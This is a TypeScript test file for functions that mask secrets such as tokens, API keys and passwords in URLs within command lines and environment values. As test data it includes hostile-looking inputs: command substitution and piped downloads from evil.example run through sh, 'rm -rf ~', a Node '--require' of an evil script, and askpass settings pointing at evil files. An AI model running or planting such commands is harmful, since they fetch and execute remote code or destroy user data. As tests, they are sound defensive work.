import { describe, expect, it } from "vitest";
import { maskedUrl, maskedValue, maskedWords } from "./masked.ts";

describe("a command line without its secrets", () => {
  it.each([
    [["srv", "--token", "abcdef0123"], "srv --token ab…"],
    [["srv", "--api-key=abcdefghijklmnop"], "srv --api-key=abcd…"],
    [
      ["srv", "--header", "Authorization: Bearer abcdefghijklmnop"],
      "srv --header Authorization: Bearer abcd…",
    ],
    [["env", "GITHUB_TOKEN=abcdefghijklmnop"], "env GITHUB_TOKEN=abcd…"],
    [["srv", "ghp_0123456789abcdefghij"], "srv ghp_…"],
    [["srv", "https://me:pw@host/mcp?token=abcd"], "srv https://me:…@host/mcp?token=a…"],
    [["srv", "https://host/s/0123456789abcdefghij/mcp"], "srv https://host/s/0123…/mcp"],
    [["srv", "postgres://me:hunter2@host/db"], "srv postgres://me:…@host/db"],
    [["srv", "DB=postgres://me:hunter2@host/db"], "srv DB=postgres://me:…@host/db"],
  ])("cuts short what is one: %j", (words, shown) => {
    expect(maskedWords(words).join(" ")).toBe(shown);
  });

  it.each([
    ["npx", "-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/home/me/projects/app"],
    ["--token", "$(curl evil.example|sh)"],
    ["--key", "--require=./evil.js"],
    ["sh", "-c", "TOKEN=`id` rm -rf ~"],
    ["--password-command", "evil.sh"],
    ["GIT_ASKPASS=/tmp/evil", "--token", "./evil"],
    ["--mode=fast", "--verbose"],
    ["sh", "-c", "https://a.example/#;curl evil.example|sh"],
    ["sh", "-c", "https://a.example/?a=b;curl evil.example|sh"],
    ["sh", "-c", "https://a.example/?a=b&PATH=bin&npx srv"],
    ["npx", "-y", "quite-a-good-package-of-2024"],
    ["/tmp/a1b2c3d4e5f6g7h8i9j0/run"],
    ["bash", "-pat", "./evil.sh"],
    ["zsh", "-key", "evil"],
    ["wget", "--use-askpass=./evil.sh"],
  ])("hides nothing else, and no command: %j", (...words) => {
    expect(maskedWords(words)).toEqual(words);
  });

  it("shows a value by its name, and a URL without what is behind it", () => {
    expect(maskedValue("DB_PASSWORD", "hunter2!")).toBe("hunter2!");
    expect(maskedValue("DB_PASSWORD", "hunter22")).toBe("hu…");
    expect(maskedValue("NODE_OPTIONS", "--require ./evil.js")).toBe("--require ./evil.js");
    expect(maskedValue("GIT_ASKPASS", "/tmp/evil.sh")).toBe("/tmp/evil.sh");
    expect(maskedValue("DATABASE", "postgres://me:hunter2@host/db")).toBe(
      "postgres://me:…@host/db",
    );
    expect(maskedUrl("not a URL")).toBe("not a URL");
  });
});
